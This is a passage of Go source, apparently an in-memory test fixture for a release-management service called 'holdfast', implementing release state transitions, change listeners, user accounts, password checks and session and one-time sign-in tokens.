	return f.act(id, by, "halt", holdfast.Halted, holdfast.Running, holdfast.Held, holdfast.Paused, holdfast.Complete)
}

func (f *fixture) Pause(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
	return f.act(id, by, "pause", holdfast.Paused, holdfast.Running, holdfast.Held)
}

func (f *fixture) Resume(_ context.Context, id holdfast.ReleaseID, by string) error {
	return f.act(id, by, "resume", holdfast.Running, holdfast.Paused)
}

func (f *fixture) Approve(_ context.Context, id holdfast.ReleaseID, by string) error {
	return f.act(id, by, "approve", holdfast.Running, holdfast.Waiting)
}

func (f *fixture) Finish(_ context.Context, id holdfast.ReleaseID, by string) error {
	return f.act(id, by, "finish", holdfast.Complete, holdfast.Running)
}

func (f *fixture) Override(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
	return f.act(id, by, "override", holdfast.Running, holdfast.Halted, holdfast.Stopped)
}

// Hints.

func (f *fixture) Listen(ctx context.Context, l func(view.Topic)) {
	f.mu.Lock()
	f.listeners = append(f.listeners, l)
	f.mu.Unlock()
	<-ctx.Done()
}

func (f *fixture) hint(t view.Topic) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, l := range f.listeners {
		l(t)
	}
}

// Accounts.

func (f *fixture) User(_ context.Context, name string) (holdfast.User, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if u, ok := f.users[name]; ok {
		return u.User, nil
	}
	return holdfast.User{}, notFound("user", name)
}

func (f *fixture) Users(context.Context) ([]holdfast.User, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var list []holdfast.User
	for _, u := range f.users {
		list = append(list, u.User)
	}
	slices.SortFunc(list, func(a, b holdfast.User) int { return cmp.Compare(a.Name, b.Name) })
	return list, nil
}

func (f *fixture) CreateUser(_ context.Context, u holdfast.User, password, _ string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.users[u.Name] != nil {
		return holdfast.Errorf(holdfast.Conflict, "user %s exists", u.Name)
	}
	f.users[u.Name] = &account{u, password}
	return nil
}

func (f *fixture) UpdateUser(_ context.Context, u holdfast.User, _ string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.users[u.Name] == nil {
		return notFound("user", u.Name)
	}
	f.users[u.Name].User = u
	return nil
}

func (f *fixture) SetPassword(_ context.Context, name, password, _ string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.users[name] == nil {
		return notFound("user", name)
	}
	f.users[name].password = password
	maps.DeleteFunc(f.sessions, func(_ string, s session) bool { return s.user == name && !s.once })
	return nil
}

var denied = holdfast.Errorf(holdfast.Denied, "denied")

func (f *fixture) CheckPassword(_ context.Context, name, password string) (holdfast.User, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	u := f.users[name]
	if u == nil || u.Disabled || u.password == "" || u.password != password {
		return holdfast.User{}, denied
	}
	return u.User, nil
}

func (f *fixture) begin(name string, once bool, expires time.Time) string {
	f.mu.Lock()
	defer f.mu.Unlock()
	secret := fmt.Sprintf("secret-%d-%s", len(f.sessions), name)
	f.sessions[secret] = session{name, once, expires}
	return secret
}

func (f *fixture) end(secret string, once bool, now time.Time) (holdfast.User, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	s, ok := f.sessions[secret]
	if !ok || s.once != once || !s.expires.After(now) || f.users[s.user] == nil || f.users[s.user].Disabled {
		return holdfast.User{}, denied
	}
	if once {
		f.sessions[secret] = session{} // spent
	}
	return f.users[s.user].User, nil
}

func (f *fixture) CreateSession(_ context.Context, name string, _, expires time.Time) (string, error) {
	return f.begin(name, false, expires), nil
}

func (f *fixture) Session(_ context.Context, secret string, now time.Time) (holdfast.User, error) {
	return f.end(secret, false, now)
}

func (f *fixture) EndSession(_ context.Context, secret string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.sessions[secret] = session{}
	return nil
}

func (f *fixture) CreateSignIn(_ context.Context, name string, expires time.Time) (string, error) {
	return f.begin(name, true, expires), nil
}

func (f *fixture) UseSignIn(_ context.Context, secret string, now time.Time) (holdfast.User, error) {
	return f.end(secret, true, now)
}

type account struct {
	holdfast.User
	password string
}

type session struct {
	user    string
	once    bool
	expires time.Time
}
